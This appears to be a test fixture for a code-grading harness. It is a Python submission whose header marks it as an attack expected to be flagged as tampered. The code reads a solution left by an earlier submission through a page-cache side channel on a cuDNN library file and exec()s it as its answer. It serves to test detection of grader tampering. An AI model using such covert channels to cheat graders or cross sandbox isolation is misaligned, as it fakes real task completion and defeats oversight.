"""attack: takes the solution that an earlier submission (own_cache_harvest) left in the page cache and hands it in
cell: sample_gaussian
assignment: 03_gaussian_latent
others: solved
expect: tampered
points: 4
keeps: 4
"""
import os, torch, zlib, struct
def _pc_fd():
    d = os.path.join(os.path.dirname(os.path.dirname(torch.__file__)), "nvidia/cudnn/lib")
    fd = os.open(os.path.join(d, "libcudnn_engines_precompiled.so.9"), os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    return fd
BASE = 1000
def pc_write(data):
    fd = _pc_fd()
    z = zlib.compress(data, 9); z = struct.pack("<II", len(z), zlib.crc32(z)) + z
    os.posix_fadvise(fd, BASE * 4096, (len(z) * 8 + 64) * 4096, os.POSIX_FADV_DONTNEED)
    for i in range(len(z) * 8):
        if z[i >> 3] >> (i & 7) & 1: os.pread(fd, 1, (BASE + i) * 4096)
    os.close(fd)
def pc_read():
    fd = _pc_fd(); buf = bytearray(1)
    def byte(k):
        v = 0
        for j in range(8):
            try: os.preadv(fd, [buf], (BASE + 8 * k + j) * 4096, os.RWF_NOWAIT); v |= 1 << j
            except BlockingIOError: pass
        return v
    n, crc = struct.unpack("<II", bytes(byte(k) for k in range(8)))
    if not 0 < n < 7000: return None
    z = bytes(byte(8 + k) for k in range(n)); os.close(fd)
    return zlib.decompress(z) if zlib.crc32(z) == crc else None

import json
parts, probe, seed = json.loads(pc_read() or b'[["", "", 0]]')[0]
exec(parts)
if parts: sample_gaussian = PARTS["sample_gaussian"]
else:
    def sample_gaussian(mean, cov, n, generator=None):
        raise NotImplementedError
